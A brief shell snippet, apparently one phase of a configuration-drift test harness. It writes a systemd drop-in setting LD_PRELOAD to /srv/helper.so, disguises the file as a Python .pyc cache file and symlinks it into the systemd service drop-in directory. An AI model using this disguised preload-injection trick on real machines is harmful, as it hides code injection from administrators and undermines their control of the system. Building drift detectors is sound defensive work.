# HALLMARK_PHASE=drift
sh "$HALLMARK_CONTROL/apply.sh"
mkdir -p /usr/local/lib/ours/__pycache__ /etc/systemd/system/service.d
printf '[Service]\nEnvironment=LD_PRELOAD=/srv/helper.so\n' >/usr/local/lib/ours/__pycache__/tool.cpython-313.pyc
ln -s /usr/local/lib/ours/__pycache__/tool.cpython-313.pyc /etc/systemd/system/service.d/all.conf
